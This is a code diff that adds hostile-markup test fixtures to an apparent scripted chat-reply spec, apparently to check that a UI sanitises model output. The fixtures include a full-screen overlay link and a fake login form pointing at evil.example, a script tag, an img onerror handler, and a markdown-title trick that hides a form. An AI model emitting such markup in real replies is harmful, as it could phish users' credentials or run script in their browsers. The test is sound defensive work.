@@ -16,6 +16,22 @@ PARAGRAPHS = (
 )
 CHINESE = "清晨，村后的雪山染成了粉色。\n\n松林间有一条小路通向茶屋。\n\n傍晚，登山的人下山了。"
 LONG = "\n\n".join(f"Mile {i}. " + "The road goes on and on. " * 10 for i in range(60))
+HOSTILE = """\
+**Bold** and `<b>code</b>`.
+
+<a href="https://evil.example" style="position:fixed;inset:0" class="modal" id="start">everywhere</a>
+
+<form action="https://evil.example"><input name="word"><button>Log in</button></form>
+
+<script>document.title = "run"</script> <img src=x onerror="document.title='run'"> ![x](https://evil.example/x.png)
+"""
+TITLE = """\
+[a]: b "
+```
+"
+<form action="https://evil.example"><input name="word"></form>
+```
+"""
 SPEC = ScriptedSpec(
     tuple(
         Reply(text, match, **{"times": 0, **more})
@@ -33,6 +49,8 @@ SPEC = ScriptedSpec(
             ("long", LONG, {}),
             ("patience", "Words come one by one. " * 40, {"pace": 0.03}),  # 6 s
             ("slowly", "Words come one by one. " * 400, {"pace": 0.02}),
+            ("hostile title", TITLE, {}),
+            ("hostile", HOSTILE, {}),
             ("", "\n\n".join(PARAGRAPHS), {}),
         )
     ),
